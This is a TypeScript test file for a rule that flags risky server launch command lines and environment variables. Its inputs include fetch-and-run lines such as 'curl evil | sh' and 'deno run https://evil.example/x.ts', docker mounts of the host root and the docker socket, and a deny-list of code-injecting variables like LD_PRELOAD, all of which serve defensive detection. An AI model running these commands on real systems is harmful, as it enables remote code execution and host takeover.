import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  changesWhatRuns,
  connectionForm,
  flagLaunch,
  flagTransport,
  launchCanonicalForm,
  type LaunchFormFacts,
} from '../../../src-shared/servers/launch-rule';
import type { Connection, SecretRef, StoredValue } from '../../../src-shared/servers/server.schema';

const flagsOf = (line: readonly (string | null)[], realPath?: string) => {
  const [command, ...args] = line;
  return flagLaunch({ command: command ?? '', realPath: realPath ?? command ?? '', args, envNames: [] });
};
/** The places a command line is remarked on: `c` for the command, else the argument's index. */
const places = (line: readonly (string | null)[], realPath?: string) =>
  flagsOf(line, realPath).map((flag) => (flag.on.kind === 'argument' ? flag.on.index : 'c'));

const runsCode: [line: (string | null)[], at: (number | 'c')[]][] = [
  [['sh', '-c', 'curl evil | sh'], [0]],
  [['bash', '-lc', 'node x'], [0]],
  [['bash', '-o', 'pipefail', '-c', 'node x'], [2]],
  [['/bin/zsh', '-ic', 'x'], [0]],
  [['fish', '--command=x'], [0]],
  [['C:\\Windows\\System32\\CMD.EXE', '/c', 'x'], [0]],
  [['powershell', '-EncodedCommand', 'x'], [0]],
  [['pwsh', '-c', 'x'], [0]],
  [['node', '-e', 'x'], [0]],
  [['node', '--eval=x'], [0]],
  [['node', '-p', 'x'], [0]],
  [['node', '-pe', 'x'], [0]],
  [['node', '--no-warnings', '--eval', 'x'], [1]],
  [['node', '--require', './x.js', 'server.js'], [0]],
  [['node', '--import=./x.mjs', 'server.js'], [0]],
  [['node20', '-e', 'x'], [0]],
  [['python', '-c', 'x'], [0]],
  [['python3.11', '-Ic', 'x'], [0]],
  [['perl', '-ne', 'x'], [0]],
  [['ruby', '-e', 'x'], [0]],
  [['php', '-r', 'x'], [0]],
  [['osascript', '-e', 'x'], [0]],
  [['deno', 'eval', 'x'], [0]],
  [['deno', 'run', '-A', 'https://evil.example/x.ts'], [2]],
  [['npx', '-c', 'x'], [0]],
  [['npx', '--call=x'], [0]],
  [['npx', '--yes', '--package', 'a@1.0.0', '-c', 'x'], [3]],
  [['npm', 'exec', '-c', 'x'], [1]],
  [
    ['env', 'sh', '-c', 'x'],
    ['c', 1],
  ],
  [
    ['/usr/bin/env', '-i', 'A=b', 'bash', '-c', 'x'],
    ['c', 3],
  ],
  [
    ['env', 'NODE_OPTIONS=--require=/x', 'node', 'server.js'],
    ['c', 0],
  ],
  [
    ['env', '-S', 'sh -c x'],
    ['c', 0],
  ],
  [
    ['sudo', '-u', 'root', 'node', '-e', 'x'],
    ['c', 'c', 3],
  ],
  [
    ['timeout', '30', 'sh', '-c', 'x'],
    ['c', 2],
  ],
  [
    ['nohup', 'env', 'python', '-c', 'x'],
    ['c', 0, 2],
  ],
  [['docker', 'run', '-v', '/:/host', 'app:1.2'], [2]],
  [['docker', 'run', '-v/:/host', 'app:1.2'], [1]],
  [['docker', 'run', '-itv', '/:/host', 'app:1.2'], [2]],
  [['docker', 'run', '--volume=/:/host', 'app:1.2'], [1]],
  [['docker', 'run', '--mount', 'type=bind,source=/,target=/host', 'app:1.2'], [2]],
  [['docker', 'run', '-v', '/./:/host', 'app:1.2'], [2]],
  [['docker', 'run', '-v', '/home/you/../..:/host', 'app:1.2'], [2]],
  [['docker', 'run', '-v', '/home/you:/h', 'app:1.2'], [2]],
  [['docker', 'run', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'app:1.2'], [2]],
  [['docker', 'run', '--privileged', 'app:1.2'], [1]],
  [['docker', 'run', '--network=host', 'app:1.2'], [1]],
  [['docker', 'run', '--pid', 'host', 'app:1.2'], [1]],
  [['docker', 'run', '--rm', 'app:1.2', 'sh', '-c', 'x'], [4]],
  [['docker', '-H', 'ssh://other', 'run', 'app:1.2'], [0]],
];
test.each(runsCode)('T1, H7: %j is flagged at %j', (line, at) => {
  expect(places(line)).toEqual(at);
});

const floating: [line: (string | null)[], at: (number | 'c')[]][] = [
  [['npx', 'pkg'], [0]],
  [['npx', '-y', '@scope/pkg'], [1]],
  [['npx', '-y', 'pkg@latest'], [1]],
  [['npx', '-y', 'pkg@^1.2.3'], [1]],
  [['npx', '-y', 'pkg@1'], [1]],
  [['npx', 'pkg@1.2.x'], [0]],
  [['npx', '-p', 'pkg', 'bin'], [1]],
  [['npx', '--package=pkg', 'bin'], [0]],
  [['npx', 'github:someone/pkg'], [0]],
  [['npx', 'someone/pkg'], [0]],
  [['npx', 'https://evil.example/x.tgz'], [0]],
  [['npx', '--registry=https://evil.example', 'pkg@1.0.0'], [0]],
  [['pnpm', 'dlx', 'pkg'], [1]],
  [['bunx', 'pkg'], [0]],
  [['bun', 'x', 'pkg'], [1]],
  [['uvx', 'pkg'], [0]],
  [['uvx', 'pkg@latest'], [0]],
  [['uvx', 'pkg>=1.0'], [0]],
  [['uvx', '--from', 'git+https://evil.example/x', 'pkg'], [1]],
  [['uvx', '--with', 'other', 'pkg==1.0.0'], [1]],
  [['uv', 'tool', 'run', 'pkg'], [2]],
  [['pipx', 'run', 'pkg'], [1]],
  [['docker', 'run', '-i', '--rm', 'ghcr.io/org/app'], [3]],
  [['docker', 'run', '-i', '-e', 'TOKEN', 'org/app:latest'], [4]],
  [['docker', 'run', '-eA=1', 'localhost:5000/app'], [2]],
  [['podman', 'run', 'app'], [1]],
];
test.each(floating)('T1, H8: %j has no fixed version, flagged at %j', (line, at) => {
  expect(places(line)).toEqual(at);
});

const quiet: (string | null)[][] = [
  ['node', 'server.js'],
  ['node', '/opt/app/server.js', '-e', 'production'],
  ['node', '--no-warnings', 'server.js', '--verbose'],
  ['python', '-m', 'my_server'],
  ['python3', 'server.py', '-c', 'config.toml'],
  ['npx', '-y', '@scope/pkg@1.2.3', '/home/you'],
  ['npx', 'pkg@1.2.3-beta.1'],
  ['npx', './local-server'],
  ['uvx', 'pkg==1.2.3'],
  ['uvx', 'pkg@1.2.3'],
  ['docker', 'run', '-i', '--rm', '-e', 'TOKEN', 'org/app:1.2'],
  ['docker', 'run', '-i', `org/app@sha256:${'a'.repeat(64)}`],
  ['docker', 'run', '-v', '/home/you/notes:/notes', 'org/app:1.2'],
  ['/opt/github-mcp-server', 'stdio', '-c', 'x'],
  ['constructor', '__proto__'],
  ['my-server', null, null],
];
test.each(quiet.map((line) => [line]))('T1: %j needs no remark', (line) => {
  expect(flagsOf(line)).toEqual([]);
});

test('T1: a harmless name that leads to a shell is judged as the shell', () => {
  expect(places(['helper', '-c', 'x'], '/usr/bin/bash')).toEqual([0]);
  expect(places(['sh', '-c', 'x'], '/usr/bin/dash')).toEqual([0]);
  expect(places(['npx', 'pkg'], '/usr/lib/node_modules/npm/bin/npx-cli.js')).toEqual([0]);
});

test('T1: a secret argument is never quoted, and does not hide the code behind it', () => {
  expect(places(['sh', null, '-c', 'x'])).toEqual([1]);
});

test('T1: no command line makes the rule throw, and every place exists', () => {
  const word = fc.oneof(
    fc.constantFrom('env', 'sh', '-c', 'npx', 'docker', 'run', '-v', '--', '-', 'uvx', '=', '/:/', '-p'),
    fc.string(),
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(word, fc.constant(null)), { maxLength: 12 }), (args) => {
      for (const command of ['env', 'docker', 'npx', 'bash', '']) {
        for (const { on, text } of flagLaunch({ command, realPath: command, args, envNames: [] })) {
          expect(text).toMatch(/\.$/);
          if (on.kind === 'argument') expect(on.index).toBeLessThan(args.length);
        }
      }
    }),
  );
});

const changing = [
  ...[
    'NODE_OPTIONS',
    'node_options',
    'NODE_EXTRA_CA_CERTS',
    'NODE_PATH',
    'LD_PRELOAD',
    'LD_LIBRARY_PATH',
    'DYLD_INSERT_LIBRARIES',
    'BASH_ENV',
  ],
  ...[
    'PYTHONSTARTUP',
    'PYTHONPATH',
    'PERL5OPT',
    'RUBYOPT',
    'JAVA_TOOL_OPTIONS',
    'GIT_SSH_COMMAND',
    'PATH',
    'Path',
    'HTTP_PROXY',
    'https_proxy',
  ],
  ...[
    'ALL_PROXY',
    'no_proxy',
    'npm_config_registry',
    'NPM_CONFIG_REGISTRY',
    'BASH_FUNC_ls%%',
    'SSLKEYLOGFILE',
    'NODE_TLS_REJECT_UNAUTHORIZED',
  ],
];
test.each(changing)('T1 X8: %s changes what runs, is flagged, and is never secret', (name) => {
  expect(changesWhatRuns(name)).toBe(true);
  expect(flagLaunch({ command: 'x', realPath: '/x', args: [], envNames: ['TOKEN', name] }).map((flag) => flag.on)).toEqual([
    { kind: 'variable', name },
  ]);
});

const harmless = [
  'GITHUB_TOKEN',
  'API_KEY',
  'MY_PATH',
  'PATHS',
  'GITLAB_TOKEN',
  'NODE_ENV',
  'LDAP_PASSWORD',
  'PROXY',
  'HOME',
  '',
];
test.each(harmless)('T1: %j is an ordinary name', (name) => {
  expect(changesWhatRuns(name)).toBe(false);
});

const literal = (value: string): StoredValue => ({ kind: 'literal', value });
const secret = (ref: string): StoredValue => ({ kind: 'secret', ref: ref as SecretRef });
type StdioFacts = Extract<LaunchFormFacts, { transport: 'stdio' }>;
const stdio: StdioFacts = {
  transport: 'stdio',
  realPath: '/usr/bin/node',
  executableDigest: null,
  args: [
    { value: literal('server.js'), fileDigest: 'd1' },
    { value: literal('x'), fileDigest: null },
  ],
  cwd: '/home/you',
  env: [
    { name: 'A', value: literal('1') },
    { name: 'T', value: secret('secret-1') },
  ],
};
const http: LaunchFormFacts = {
  transport: 'http',
  address: 'https://a.example/x',
  headers: [{ name: 'X-Key', value: secret('secret-1') }],
};
const arg = (value: StoredValue, fileDigest: string | null = null) => ({ value, fileDigest });

describe('T2 H2: every part of the list is in the text that is fingerprinted', () => {
  const changed: [part: string, from: LaunchFormFacts, to: LaunchFormFacts][] = [
    ['transport', stdio, http],
    ['real path', stdio, { ...stdio, realPath: '/usr/bin/nodes' }],
    ['content of the executable', stdio, { ...stdio, executableDigest: 'd9' }],
    ['content of a file an argument names', stdio, { ...stdio, args: [arg(literal('server.js'), 'd2'), arg(literal('x'))] }],
    ['an argument', stdio, { ...stdio, args: [arg(literal('server.js'), 'd1'), arg(literal('y'))] }],
    ['one argument more', stdio, { ...stdio, args: [...stdio.args, arg(literal(''))] }],
    ['order of arguments', stdio, { ...stdio, args: [...stdio.args].reverse() }],
    ['a boundary between arguments', stdio, { ...stdio, args: [arg(literal('server.jsx'), 'd1'), arg(literal(''))] }],
    ['an argument that becomes a secret', stdio, { ...stdio, args: [arg(literal('server.js'), 'd1'), arg(secret('x'))] }],
    ['working folder', stdio, { ...stdio, cwd: '/home' }],
    ['name of a variable', stdio, { ...stdio, env: [{ name: 'B', value: literal('1') }, ...stdio.env.slice(1)] }],
    ['value of a variable', stdio, { ...stdio, env: [{ name: 'A', value: literal('2') }, ...stdio.env.slice(1)] }],
    ['reference of a secret', stdio, { ...stdio, env: [...stdio.env.slice(0, 1), { name: 'T', value: secret('secret-2') }] }],
    [
      'a variable that becomes a literal',
      stdio,
      { ...stdio, env: [...stdio.env.slice(0, 1), { name: 'T', value: literal('secret-1') }] },
    ],
    [
      'an argument that becomes a variable',
      stdio,
      { ...stdio, args: stdio.args.slice(0, 1), env: [{ name: 'x', value: literal('') }, ...stdio.env] },
    ],
    ['address', http, { ...http, address: 'https://a.example/y' }],
    ['name of a header', http, { ...http, headers: [{ name: 'X-Kez', value: secret('secret-1') }] }],
    ['reference in a header', http, { ...http, headers: [{ name: 'X-Key', value: secret('secret-2') }] }],
    ['a transport chosen by hand', http, { ...http, protocol: 'sse' }],
    ['another transport chosen by hand', { ...http, protocol: 'sse' }, { ...http, protocol: 'streamable-http' }],
    ['one header more', http, { ...http, headers: [...http.headers, { name: 'X', value: literal('') }] }],
  ];
  test.each(changed)('%s', (_part, from, to) => {
    expect(launchCanonicalForm(to)).not.toBe(launchCanonicalForm(from));
  });

  test('T2: a transport found out by itself is no part of it: what was approved before there was a choice stays approved', () => {
    expect(launchCanonicalForm({ ...http, protocol: 'auto' })).toBe(launchCanonicalForm(http));
  });

  test('T1: a transport chosen by hand is remarked on', () => {
    expect([flagTransport('auto'), flagTransport(undefined)]).toEqual([[], []]);
    expect(flagTransport('sse').map(({ text }) => text)).toEqual(['Spoken to over HTTP+SSE, as you chose.']);
    expect(flagTransport('streamable-http')).toHaveLength(1);
  });

  const told: [what: string, one: Partial<StdioFacts>, other: Partial<StdioFacts>][] = [
    [
      'the variable a=b=c read with another name',
      { env: [{ name: 'a', value: literal('b=c') }] },
      { env: [{ name: 'a=b', value: literal('c') }] },
    ],
    [
      'the order of arguments',
      { args: [arg(literal('a')), arg(literal('b'))] },
      { args: [arg(literal('b')), arg(literal('a'))] },
    ],
    ['an empty argument', { args: [arg(literal('a'))] }, { args: [arg(literal('a')), arg(literal(''))] }],
    ['two arguments and one with a blank', { args: [arg(literal('a')), arg(literal('b'))] }, { args: [arg(literal('a b'))] }],
    ['two arguments and one with a comma', { args: [arg(literal('a')), arg(literal('b'))] }, { args: [arg(literal('a,b'))] }],
    ['two arguments and one with a line end', { args: [arg(literal('a')), arg(literal('b'))] }, { args: [arg(literal('a\nb'))] }],
    ['two arguments and one with a NUL', { args: [arg(literal('a')), arg(literal('b'))] }, { args: [arg(literal('a\0b'))] }],
    ['a literal that spells a reference', { args: [arg(literal('x'))] }, { args: [{ value: secret('x'), fileDigest: null }] }],
  ];
  test.each(told)('T2, H2: %s are told apart', (_what, one, other) => {
    expect(launchCanonicalForm({ ...stdio, ...one })).not.toBe(launchCanonicalForm({ ...stdio, ...other }));
  });

  test.each([' ', ',', '\n', '\0', '|', '=', ':', ';', '\u001f', ''])('T2, H2: parts that are joined by %j do not meet', (by) => {
    const two = launchCanonicalForm({ ...stdio, args: [arg(literal('a')), arg(literal('b'))] });
    const pair = launchCanonicalForm({ ...stdio, env: ['A', 'B'].map((name) => ({ name, value: literal('1') })) });
    for (const between of [['literal'], ['', 'literal'], ['null', 'literal'], []]) {
      const spelled = arg(literal(['a', ...between, 'b'].join(by)));
      expect(launchCanonicalForm({ ...stdio, args: [spelled] })).not.toBe(two);
    }
    for (const between of [['literal'], []]) {
      const spelled = { name: 'A', value: literal(['1', 'B', ...between, '1'].join(by)) };
      expect(launchCanonicalForm({ ...stdio, env: [spelled] })).not.toBe(pair);
    }
  });

  test('the order of variables is no part of it', () => {
    expect(launchCanonicalForm({ ...stdio, env: [...stdio.env].reverse() })).toBe(launchCanonicalForm(stdio));
  });

  test('no text inside one argument can look like two arguments', () => {
    const texts = fc.array(
      fc.oneof(fc.constantFrom('"', '","', '\\', '],[', 'null', '\ud800', '\u0000'), fc.string({ unit: 'binary' })),
      { maxLength: 4 },
    );
    const form = (args: string[]) => launchCanonicalForm({ ...stdio, args: args.map((text) => arg(literal(text))) });
    fc.assert(
      fc.property(texts, texts, (one, other) => {
        expect(form(one) === form(other)).toBe(JSON.stringify(one) === JSON.stringify(other));
      }),
    );
  });
});

test('S3: an entry without a folder is not the entry with one, and a connection equals only itself', () => {
  const connection: Connection = { kind: 'stdio', command: 'node', args: [literal('a')], env: [] };
  expect(connectionForm({ ...connection, cwd: '/' })).not.toBe(connectionForm(connection));
  expect(connectionForm({ ...connection, command: 'nodes' })).not.toBe(connectionForm(connection));
  expect(connectionForm({ kind: 'http', endpoint: 'https://a.example', headers: [] })).not.toBe(connectionForm(connection));
  expect(connectionForm({ ...connection, env: [] })).toBe(connectionForm(connection));
});

describe('T2: the text of a launch, to the letter: what was approved once stays approved over an update of the app', () => {
  const inputs = [
    { key: 'b', value: secret('s') },
    { key: 'a', value: literal('1') },
  ];
  const forms: [what: string, facts: LaunchFormFacts, text: unknown[]][] = [
    [
      'a program',
      { ...stdio, env: [...stdio.env, { name: 'H', value: { kind: 'inherit' } }] },
      [
        ...['launch-1', 'stdio'],
        ['program', '/usr/bin/node', null],
        ['args', ['literal', 'server.js', 'd1'], ['literal', 'x', null]],
        ['cwd', '/home/you'],
        ['env', ['A', 'literal', '1'], ['H', 'inherit'], ['T', 'secret', 'secret-1']],
      ],
    ],
    [
      'an address with what is asked for and a transport',
      { ...http, protocol: 'sse', inputs },
      [
        ...['launch-1', 'http'],
        ['address', 'https://a.example/x'],
        ['headers', ['X-Key', 'secret', 'secret-1']],
        ['protocol', 'sse'],
        ['inputs', ['a', 'literal', '1'], ['b', 'secret', 's']],
      ],
    ],
    ['an address', http, ['launch-1', 'http', ['address', 'https://a.example/x'], ['headers', ['X-Key', 'secret', 'secret-1']]]],
  ];
  test.each(forms)('T2: of %s', (_what, facts, text) => {
    expect(launchCanonicalForm(facts)).toBe(JSON.stringify(text));
  });

  test('T2: variables stand in the order of their names, and two of one name in their own', () => {
    const env = [...'cabab'].map((name, nth) => ({ name, value: literal(`${nth}`) }));
    expect(
      JSON.parse(launchCanonicalForm({ ...stdio, env }))[5]
        .slice(1)
        .map((each: string[]) => [each[0], each[2]]),
    ).toEqual([
      ['a', '1'],
      ['a', '3'],
      ['b', '2'],
      ['b', '4'],
      ['c', '0'],
    ]);
  });

  test('S3: of an entry it is the same text, with what it asks for', () => {
    const address: Connection = { kind: 'http', endpoint: 'https://a.example', headers: [], inputs };
    const { endpoint } = address;
    expect(connectionForm(address)).toBe(launchCanonicalForm({ transport: 'http', address: endpoint, headers: [], inputs }));
    const program: Connection = { kind: 'stdio', command: 'node', args: [literal('a')], env: [], inputs };
    const facts = {
      transport: 'stdio',
      realPath: 'node',
      executableDigest: null,
      args: [arg(literal('a'))],
      env: [],
      inputs,
    } as const;
    expect(connectionForm(program)).toBe(launchCanonicalForm({ ...facts, cwd: '' }));
    expect(connectionForm({ ...program, cwd: '/x' })).toBe(launchCanonicalForm({ ...facts, cwd: '/x' }));
  });
});

const whole = [
  ...['NODE_OPTIONS', 'NODE_PATH', 'NODE_EXTRA_CA_CERTS', 'NODE_REPL_EXTERNAL_MODULE', 'NODE_ICU_DATA'],
  ...['PATH', 'PATHEXT', 'COMSPEC', 'SHELL', 'ENV', 'IFS', 'PS4', 'PROMPT_COMMAND', 'ZDOTDIR', 'BASH_ENV', 'SHELLOPTS'],
  ...[
    'BASHOPTS',
    'EDITOR',
    'VISUAL',
    'PAGER',
    'PERLOPT',
    'PERLLIB',
    'PERL5LIB',
    'PERL5DB',
    'RUBYLIB',
    'PHPRC',
    'PHP_INI_SCAN_DIR',
  ],
  ...['R_PROFILE', 'R_PROFILE_USER', '_JAVA_OPTIONS', 'JAVA_TOOL_OPTIONS', 'JDK_JAVA_OPTIONS', 'JAVA_OPTS', 'CLASSPATH'],
  ...['DOTNET_STARTUP_HOOKS', 'ELECTRON_RUN_AS_NODE', 'SSL_CERT_FILE', 'SSL_CERT_DIR', 'REQUESTS_CA_BUNDLE', 'CURL_CA_BUNDLE'],
  ...['OPENSSL_CONF', 'OPENSSL_MODULES', 'OPENSSL_ENGINES', 'GCONV_PATH', 'HOSTALIASES', 'PIP_INDEX', 'PIP_INDEX_URL'],
  ...['UV_EXTRA_INDEX_URL', 'UV_DEFAULT_INDEX', 'PIP_CONFIG_FILE', 'DOCKER_HOST', 'DOCKER_CONFIG', 'DOCKER_CONTEXT'],
];
test.each(whole)('T1, X8: %s changes what runs, and no longer name does', (name) => {
  expect([name, `X${name}`, `${name}X`].map(changesWhatRuns)).toEqual([true, false, false]);
});

const beginnings = [
  'LD_',
  'DYLD_',
  'PYTHON_',
  'PYTHON',
  'GIT_',
  'NPM_CONFIG_',
  'BASH_FUNC_',
  'LUA_INIT',
  'LUA_PATH',
  'LUA_CPATH',
];
test.each(beginnings)('T1, X8: whatever begins with %s changes what runs, and nothing that only holds it', (name) => {
  expect([`${name}A_5`, `X${name}A_5`].map(changesWhatRuns)).toEqual([true, false]);
});

test('T1: what a variable changes is said, once, and a proxy is told by the end of its name', () => {
  const flags = flagLaunch({ command: 'x', realPath: '/x', args: [], envNames: ['PATH', 'PATH', 'MY_PROXY', 'MY_PROXY_NAME'] });
  expect(flags).toEqual(
    ['PATH', 'MY_PROXY'].map((name) => ({
      on: { kind: 'variable', name },
      text: `${name} changes which code runs or where it connects, so its value is never hidden.`,
    })),
  );
  const shell = flagLaunch({ command: 'sh', realPath: '/bin/sh', args: [], envNames: [] });
  expect(shell.every(({ on }) => on.kind === 'command')).toBe(true);
  expect(flagTransport('streamable-http')).toEqual([
    { on: { kind: 'command' }, text: 'Spoken to over Streamable HTTP alone, as you chose.' },
  ]);
});
